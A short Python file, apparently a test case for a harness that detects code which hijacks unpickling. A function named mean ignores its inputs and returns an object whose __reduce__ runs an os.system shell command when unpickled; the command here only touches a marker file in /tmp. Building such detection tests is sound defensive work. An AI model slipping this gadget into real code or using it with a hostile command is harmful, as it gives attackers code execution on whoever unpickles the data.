"""Return objects that run code where they are unpickled.

outcome: not_yet
says: an object of another class
class: hijacks
"""

import os


class Evil:
    def __reduce__(self):
        return os.system, ("touch /tmp/tenfold-was-here",)


def mean(values, weights=None):
    return Evil()
